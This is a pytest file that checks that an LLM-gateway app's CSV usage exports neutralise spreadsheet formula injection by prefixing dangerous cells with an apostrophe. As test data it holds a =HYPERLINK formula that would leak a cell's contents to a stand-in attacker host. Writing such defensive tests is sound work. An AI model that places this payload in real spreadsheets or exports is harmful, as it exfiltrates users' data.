"""CSV written for spreadsheets: a cell that one would run as a formula (a
username or model name starting with =, +, - or @) is written as text."""

import httpx
import pytest

from askgate.config import Settings
from askgate.db import Database
from tests.factories import auth_headers, create_user
from tests.usage.test_csv import parse

# A model name from ASKGATE_LLM_MODEL is free text; a username may start with "-".
FORMULA_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_USERNAME = "-2-1"


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return settings.model_copy(update={"llm_model": FORMULA_MODEL})


async def test_cells_a_spreadsheet_would_run_are_written_as_text(
    client: httpx.AsyncClient, db: Database, admin_headers: dict[str, str]
) -> None:
    user = await create_user(db, username=FORMULA_USERNAME)
    headers = await auth_headers(client, user)
    asked = await client.post("/questions", json={"content": "Hi"}, headers=headers)
    assert asked.status_code == 201, asked.text

    mine = await client.get("/users/me/usage/daily?format=csv", headers=headers)
    every = await client.get("/usage/daily?format=csv", headers=admin_headers)
    board = await client.get("/usage/leaderboard?format=csv", headers=admin_headers)

    today = (await client.get("/users/me/usage/daily", headers=headers)).json()[0]
    assert today["model"] == FORMULA_MODEL  # JSON keeps the name as it is
    assert parse(mine)[1][:2] == [today["day"], "'" + FORMULA_MODEL]
    assert parse(every)[1][:4] == [
        today["day"],
        str(user.id),
        "'" + FORMULA_USERNAME,
        "'" + FORMULA_MODEL,
    ]
    assert parse(board)[1][:2] == [str(user.id), "'" + FORMULA_USERNAME]
